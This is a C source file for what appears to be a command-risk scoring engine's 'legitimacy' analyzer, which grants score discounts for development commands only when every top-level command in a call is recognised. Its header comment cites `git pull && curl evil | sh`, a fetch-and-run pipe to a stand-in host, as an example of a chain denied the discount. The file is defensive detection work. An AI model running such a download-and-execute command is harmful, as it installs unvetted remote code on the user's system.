/* Legitimacy: ordinary development work lowers a score.
 *
 * Its rules (rules/legitimacy.yaml) recognise development commands (git,
 * build tools, test runners, package managers).  Their scores are
 * discounts, and they only count when every top-level command of the call
 * is recognised: `git pull && curl evil | sh` earns no discount because
 * one command is not development work.  Critical rules set a floor the
 * discount never goes below (score.c). */
#include <stdlib.h>

#include "engine/analyzers/builtin.h"

void px_an_legitimacy_run(const px_engine *e, int self, const void *state, px_analysis *an)
{
    (void)e;
    (void)state;
    int have = 0;
    for (int i = 0; i < an->nfindings; i++)
        have |= an->findings[i].analyzer == self;
    if (!have)
        return;
    int all = 1;
    for (int t = 0; t < an->actions.ntexts && all; t++) {
        const px_text *tx = &an->actions.texts[t];
        if (tx->kind != PX_TEXT_CMD || tx->cmd < 0 || an->actions.cmds[tx->cmd].depth != 0)
            continue;
        int covered = 0;
        for (int i = 0; i < an->nfindings && !covered; i++)
            covered = an->findings[i].analyzer == self && an->findings[i].text == t;
        all = covered;
    }
    if (all)
        return;
    /* Not all development work: the recognitions do not count at all. */
    int k = 0;
    for (int i = 0; i < an->nfindings; i++)
        if (an->findings[i].analyzer != self)
            an->findings[k++] = an->findings[i];
    an->nfindings = k;
}
